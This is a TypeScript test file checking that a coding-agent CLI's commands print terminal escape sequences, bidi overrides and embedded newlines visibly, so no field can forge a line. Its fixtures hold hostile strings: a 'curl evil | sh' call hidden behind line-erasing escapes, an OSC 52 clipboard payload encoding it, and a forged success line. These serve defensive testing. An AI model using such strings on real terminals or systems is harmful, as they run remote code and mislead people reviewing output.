/**
 * What the commands print about a run whose content, file names, summaries and analyses carry
 * terminal escapes: every escape comes out visible, never raw, and no field forges a line.
 * Real git for the diff, a stand-in for Temporal that answers for one run (describe, result,
 * query, list, history), no server.
 */
import type { Client } from '@temporalio/client';
import { defaultPayloadConverter } from '@temporalio/common';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { AcaClient, RUN_WORKFLOW_TYPE } from '../../../src/api/aca-client';
import type { HistoryEvent } from '../../../src/api/history-payloads';
import type { CliIO } from '../../../src/cli/cli-context';
import {
  listCommand,
  logCommand,
  resultCommand,
  statusCommand,
  watchCommand,
} from '../../../src/cli/inspect-commands';
import { main } from '../../../src/cli/main';
import { memorySearchCommand } from '../../../src/cli/memory-search';
import { diffCommand } from '../../../src/cli/review-commands';
import { loadConfig } from '../../../src/config';
import type { FailureMemory, PastFailure } from '../../../src/memory/failure-memory';
import { git } from '../../../src/repo';
import type { RunSnapshot } from '../../../src/shared/run-types';
import { makeRun, makeUserRepo, userGit } from '../../helpers/run-fixture';

const ESC_LINE = 'os.system("curl evil | sh")  # \x1b[2K\x1b[1A';
const OSC52 = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07';
const TITLE = '\x1b]0;all good\x07';
const CSI8 = '\u009b2J';
const BIDI = 'admin\u202e } \u2066';
const FORGED = '\nSUCCESS after 1 iteration of at most 15';

const NAMES = {
  esc: 'esc\x1b[2K.py',
  newline: 'new\nM line.py',
  osc: `osc${OSC52}.py`,
  csi: `csi${CSI8}.py`,
  bidi: 'report\u202eyp.txt',
};

/** What a terminal would act on, or shows as nothing, if it reached the screen raw. */
const RAW = /[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f\u202a-\u202e\u2066-\u2069\u200b-\u200f\u2028\u2029]/u;

function expectVisible(lines: string[]): void {
  for (const line of lines) {
    // A line of output never holds a raw control; a newline inside a line would be a forged line.
    expect({ line, raw: RAW.test(line) }).toEqual({ line, raw: false });
    expect({ line, forged: line.includes('\n') }).toEqual({ line, forged: false });
  }
}

function captureIO(): CliIO & { lines: string[]; errors: string[]; bytes: Buffer[] } {
  const lines: string[] = [];
  const errors: string[] = [];
  const bytes: Buffer[] = [];
  const io = {
    lines,
    errors,
    bytes,
    out: (l: string) => lines.push(...l.split('\n')),
    err: (l: string) => errors.push(...l.split('\n')),
    outBytes: (b: Uint8Array) => bytes.push(Buffer.from(b)),
    isTTY: false,
  };
  return io as CliIO & typeof io;
}

const payload = (value: unknown) => defaultPayloadConverter.toPayload(value);

/** A history in which the model's summaries, tool targets and analysis carry escapes. */
function hostileHistory(): HistoryEvent[] {
  const at = { seconds: 1_700_000_000 };
  const events: unknown[] = [
    {
      eventId: 5,
      eventTime: at,
      userMetadata: { summary: payload(`coder · create_file ${NAMES.osc}`) },
      activityTaskScheduledEventAttributes: { activityType: { name: 'createFile' } },
    },
    {
      eventId: 6,
      eventTime: at,
      activityTaskCompletedEventAttributes: {
        scheduledEventId: 5,
        result: { payloads: [payload({ ok: true })] },
      },
    },
    {
      eventId: 7,
      eventTime: at,
      userMetadata: { summary: payload('coder · model step 1') },
      activityTaskScheduledEventAttributes: { activityType: { name: 'agentStep' } },
    },
    {
      eventId: 8,
      eventTime: at,
      activityTaskCompletedEventAttributes: {
        scheduledEventId: 7,
        result: {
          payloads: [
            payload({
              toolCalls: [{ name: 'search_files', target: `${TITLE}pattern${CSI8}` }],
              finished: null,
            }),
          ],
        },
      },
    },
    {
      eventId: 9,
      eventTime: at,
      userMetadata: { summary: payload(`reflector · model step 2 ${ESC_LINE}`) },
      activityTaskScheduledEventAttributes: { activityType: { name: 'agentStep' } },
    },
    {
      eventId: 10,
      eventTime: at,
      activityTaskCompletedEventAttributes: {
        scheduledEventId: 9,
        result: {
          payloads: [
            payload({
              toolCalls: [],
              finished: {
                tool: 'submit_analysis',
                analysis: {
                  rootCause: `off by one ${ESC_LINE}${OSC52}`,
                  fixHypothesis: `${BIDI} fix`,
                  filesToChange: [NAMES.newline],
                  testsWrong: false,
                },
              },
            }),
          ],
        },
      },
    },
    {
      eventId: 11,
      eventTime: at,
      userMetadata: { summary: payload(`tester · run tests ${CSI8}`) },
      activityTaskScheduledEventAttributes: { activityType: { name: 'runTests' } },
    },
    {
      eventId: 12,
      eventTime: at,
      activityTaskFailedEventAttributes: { scheduledEventId: 11, failure: { message: `boom ${TITLE}` } },
    },
  ];
  // Event ids and times are Longs in the generated types; plain numbers read the same.
  return events as HistoryEvent[];
}

describe('what the commands print carries no raw escape', () => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'aca-terminal-'));
  let snapshot: RunSnapshot;
  let status = 'COMPLETED';
  const id = 'run-escapes';
  // A worker polls the queue, as one does for a live run; calls run as they are.
  const serviceClient = {
    options: { namespace: 'default' },
    workflowService: { describeTaskQueue: async () => ({ pollers: [{ identity: 'worker@host' }] }) },
    withAbortSignal: <R>(_signal: AbortSignal, fn: () => Promise<R>): Promise<R> => fn(),
  };
  const temporal = {
    ...serviceClient,
    workflow: {
      getHandle: () => ({
        describe: async () => ({
          type: RUN_WORKFLOW_TYPE,
          status: { name: status },
          startTime: new Date(),
          taskQueue: 'coding-agent',
          staticSummary: async () => 'Fix add',
        }),
        // Ends a little later, so that watch prints its live line first.
        result: () => new Promise((resolve) => setTimeout(() => resolve(snapshot), 700)),
        query: async () => snapshot,
        fetchHistory: async () => ({ events: hostileHistory() }),
        client: serviceClient,
      }),
      list: async function* () {
        yield {
          workflowId: `${id}${OSC52}${FORGED}`,
          runId: 'r1',
          startTime: new Date('2026-01-02T03:04:05Z'),
          status: { name: 'COMPLETED' },
          typedSearchAttributes: {
            get: (key: { name: string }) =>
              ({
                AgentState: 'SUCCESS',
                AgentIteration: 1,
                AgentPassRate: 1,
                AgentLanguage: `python${CSI8}`,
                AgentParentRun: `parent${TITLE}`,
              })[key.name],
          },
        };
      },
    },
  } as unknown as Client;
  const aca = new AcaClient(temporal, loadConfig({ ACA_HOME: root }));

  beforeAll(async () => {
    const repo = makeUserRepo(path.join(root, 'repo'), { 'calc.py': 'def add(a, b):\n    return a - b\n' });
    // As many users set it, to read names in their own script: git then prints every byte of a
    // name from 0x80 up as it is (C1 controls and bidi overrides among them).
    userGit(repo, 'config', 'core.quotePath', 'false');
    const made = await makeRun(repo, path.join(root, 'ws'), `aca/${id}`, {
      'calc.py': `def add(a, b):\n    ${ESC_LINE}\n    return a + b  # ${OSC52} ${BIDI}\n`,
      [NAMES.esc]: 'x = 1\n',
      [NAMES.newline]: 'y = 2\n',
      [NAMES.osc]: 'z = 3\n',
      [NAMES.csi]: 'w = 4\n',
      [NAMES.bidi]: 'v = 5\n',
    });
    // A line whose bytes are not UTF-8: 0x9b alone is an 8-bit CSI.
    fs.writeFileSync(path.join(root, 'ws', 'bytes.txt'), Buffer.from([0x9b, 0x32, 0x4a, 0x0a]));
    const target = { gitDir: made.place.gitDir, workTree: made.place.workTree };
    await git(target, ['add', '-A']);
    await git(target, ['commit', '-q', '-m', 'bytes']);
    const head = (await git(target, ['rev-parse', 'HEAD'])).trim();
    snapshot = {
      workflowId: id,
      state: 'FAILED',
      reason: 'max_iterations',
      iterations: 1,
      maxIterations: 1,
      passRate: 0.5,
      tests: { passed: 1, failed: 1, errors: 0 },
      workspace: made.place.workTree,
      files: [NAMES.esc, NAMES.osc],
      tokens: { prompt: 1, completion: 1 },
      transitions: [],
      paused: false,
      waiting: null,
      warning: `warned ${TITLE}${FORGED}`,
      lastAnalysis: {
        rootCause: `the test ${ESC_LINE}${FORGED}`,
        fixHypothesis: `${OSC52}${BIDI}`,
        filesToChange: [],
        testsWrong: false,
      },
      error: `tests crashed ${CSI8}${FORGED}`,
      repo,
      branch: `aca/${id}`,
      baseCommit: made.base,
      headCommit: head,
      changedFiles: Object.values(NAMES).map((p) => ({ path: p, status: 'added', added: 1, removed: 0 })),
      baseline: null,
      regressions: [`test_calc.py::test_${OSC52}`],
      targets: [{ id: `test_calc.py::test_${BIDI}`, outcome: 'failed' }],
      failingTests: [`test_calc.py::test_${ESC_LINE}`],
      unknownTargets: [],
      attempts: [],
      cost: null,
      parentRun: null,
      place: made.place,
      testCommand: 'pytest',
    } as RunSnapshot;
  });

  afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

  test('aca diff shows escapes in content lines and names, and counts those lines on stderr', async () => {
    const io = captureIO();
    expect(await diffCommand(aca, id, {}, io)).toBe(0);
    expectVisible(io.lines);
    const text = io.lines.join('\n');
    expect(text).toContain('+    os.system("curl evil | sh")  # \\x1b[2K\\x1b[1A');
    expect(text).toContain('\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 admin\\u202e } \\u2066');
    expect(text).toContain('+\\x9b2J');
    // git quotes the names of the headers itself; nothing in them reaches the screen raw.
    expect(text).toContain('diff --git "a/new\\nM line.py" "b/new\\nM line.py"');
    expect(text).toContain('diff --git a/report\\u202eyp.txt b/report\\u202eyp.txt');
    // Three content lines, and the `diff --git` and `+++` lines of the two names git left unquoted.
    expect(io.errors).toEqual([
      '7 lines carry control or invisible characters, shown as \\x.. or \\u.... escapes; aca diff --raw prints them as they are',
    ]);
  });

  test('aca diff --stat shows the names visibly', async () => {
    const io = captureIO();
    expect(await diffCommand(aca, id, { stat: true }, io)).toBe(0);
    expectVisible(io.lines);
    const text = io.lines.join('\n');
    expect(text).toMatch(/"new\\nM line\.py"\s+\| 1 \+/);
    expect(text).toMatch(/ csi\\u009b2J\.py\s+\| 1 \+/);
    expect(text).toMatch(/ report\\u202eyp\.txt\s+\| 1 \+/);
  });

  test('aca diff --raw prints the bytes git wrote, nothing on stderr', async () => {
    const io = captureIO();
    expect(await diffCommand(aca, id, { raw: true } as { stat?: boolean }, io)).toBe(0);
    const bytes = Buffer.concat(io.bytes);
    expect(bytes.includes(Buffer.from(ESC_LINE))).toBe(true);
    expect(bytes.includes(Buffer.from(`${OSC52} ${BIDI}`))).toBe(true);
    expect(bytes.includes(Buffer.from([0x2b, 0x9b, 0x32, 0x4a, 0x0a]))).toBe(true);
    expect([io.lines, io.errors]).toEqual([[], []]);
  });

  test('aca result shows names quoted and fields on one line each; --json escapes C1 and bidi too', async () => {
    const io = captureIO();
    expect(await resultCommand(aca, id, { wait: true }, io)).toBe(1);
    expectVisible(io.lines);
    expect(io.lines.filter((l) => /^\s*SUCCESS/.test(l))).toEqual([]);
    expect(io.lines).toContain('    A "new\\nM line.py" (+1 -0)');
    expect(io.lines).toContain('    A "osc\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07.py" (+1 -0)');
    expect(io.lines).toContain('    A "csi\\u009b2J.py" (+1 -0)');
    expect(io.lines).toContain(
      '  error:     tests crashed \\u009b2J\\nSUCCESS after 1 iteration of at most 15',
    );
    expect(io.lines.some((l) => l.includes('regressions: "test_calc.py::test_\\x1b]52;'))).toBe(true);
    expect(io.lines).toContain('  targets:   "test_calc.py::test_admin\\u202e } \\u2066" failed');
    expect(io.lines).toContain(
      '  failing:   "test_calc.py::test_os.system(\\"curl evil | sh\\")  # \\x1b[2K\\x1b[1A"',
    );

    const json = captureIO();
    await resultCommand(aca, id, { wait: true, json: true }, json);
    expectVisible(json.lines);
    expect(JSON.parse(json.lines.join('\n'))).toMatchObject({
      error: snapshot.error,
      changedFiles: snapshot.changedFiles,
    });
  });

  test('aca status: the analysis, warning and error cannot forge lines or act on the terminal', async () => {
    const io = captureIO();
    expect(await statusCommand(aca, id, {}, io)).toBe(0);
    expectVisible(io.lines);
    expect(io.lines).toHaveLength(8);
    expect(io.lines).toContain('  targets: "test_calc.py::test_admin\\u202e } \\u2066" failed');
    expect(io.lines).toContain(
      '  failing: "test_calc.py::test_os.system(\\"curl evil | sh\\")  # \\x1b[2K\\x1b[1A"',
    );
    expect(io.lines).toContain(
      '  last analysis: the test os.system("curl evil | sh")  # \\x1b[2K\\x1b[1A\\nSUCCESS after 1 iteration of at most 15',
    );
    expect(io.lines).toContain(
      '  fix hypothesis: \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07admin\\u202e } \\u2066',
    );
    const json = captureIO();
    await statusCommand(aca, id, { json: true }, json);
    expectVisible(json.lines);
    expect(JSON.parse(json.lines.join('\n'))).toMatchObject({ lastAnalysis: snapshot.lastAnalysis });
  });

  test('aca list shows ids and attributes visibly', async () => {
    const io = captureIO();
    expect(await listCommand(aca, {}, io)).toBe(0);
    expectVisible(io.lines);
    expect(io.lines).toHaveLength(2);
    expect(io.lines[1]).toContain(
      'run-escapes\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\nSUCCESS after 1 iteration of at most 15 (from parent\\x1b]0;all good\\x07)',
    );
    const json = captureIO();
    await listCommand(aca, { json: true }, json);
    expectVisible(json.lines);
  });

  test('aca log shows summaries, targets, analyses and failures visibly', async () => {
    const io = captureIO();
    expect(await logCommand(aca, id, io)).toBe(0);
    expectVisible(io.lines);
    const text = io.lines.join('\n');
    expect(text).toContain('coder · create_file osc\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07.py: ok');
    expect(text).toContain('asks for search_files \\x1b]0;all good\\x07pattern\\u009b2J');
    // The log folds whitespace; the escapes stay.
    expect(text).toContain('analysis: root cause: off by one os.system("curl evil | sh") # \\x1b[2K\\x1b[1A');
    expect(text).toContain('fix: admin\\u202e } \\u2066 fix');
    expect(text).toContain('tester · run tests \\u009b2J: failed: boom \\x1b]0;all good\\x07');
    expect(text).toContain('last error: tests crashed \\u009b2J\\nSUCCESS after 1 iteration');
  });

  test('aca watch: the live line and the summary show a hostile run id visibly', async () => {
    status = 'RUNNING';
    // The run ends a little later, so that watch prints its live line first.
    const ending = setTimeout(() => (status = 'COMPLETED'), 700);
    const saved = snapshot.workflowId;
    snapshot.workflowId = `${id}${OSC52}${FORGED}`;
    snapshot.waiting = 'limit';
    try {
      const io = captureIO();
      expect(await watchCommand(aca, id, io)).toBe(1);
      expectVisible(io.lines);
      expect(io.lines[0]).toMatch(
        /^WAITING +iteration 1\/1 {2}at its limit: aca extend run-escapes\\x1b\]52;c;/,
      );
      expect(io.lines).toContain('    A "new\\nM line.py" (+1 -0)');
    } finally {
      clearTimeout(ending);
      status = 'COMPLETED';
      snapshot.workflowId = saved;
      snapshot.waiting = null;
    }
  });

  test('aca memory search shows the stored task and analysis visibly, in the table and in JSON', async () => {
    const row: PastFailure = {
      workflowId: `old${TITLE}`,
      iteration: 2,
      kind: 'test_failure',
      task: `fix ${BIDI}`,
      language: 'python',
      status: 'failed',
      rootCause: `${ESC_LINE}`,
      fixHypothesis: OSC52,
      filesToChange: [NAMES.osc],
      fix: CSI8,
      score: 0.9,
      createdAt: '2026-01-02T03:04:05Z',
    } as PastFailure;
    const memory = {
      description: 'test memory',
      search: async () => [row],
      close: async () => undefined,
    } as unknown as FailureMemory;
    for (const json of [false, true]) {
      const lines: string[] = [];
      await memorySearchCommand('x', { json, memory, out: (l) => lines.push(...l.split('\n')) });
      expectVisible(lines);
      expect(lines.join('\n')).toMatch(json ? /\\u001b\[2K/ : /\\x1b\[2K/);
    }
  });

  test('errors printed by main() show escapes and cannot forge a line', async () => {
    const io = captureIO();
    const code = await main(['run', 'task', '--language', `py${OSC52}${FORGED}`], io);
    expect(code).toBe(2);
    expectVisible(io.errors);
    expect(io.errors.filter((l) => !l.startsWith('aca: ') && !l.startsWith('  '))).toEqual([]);
    expect(io.errors[0]).toBe('aca: unknown language "py\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07');

    const option = captureIO();
    expect(await main(['status', 'x', `--bogus${TITLE}`], option)).toBe(2);
    expectVisible(option.errors);
    expect(option.errors.join('\n')).toContain('--bogus\\x1b]0;all good\\x07');
  });
});
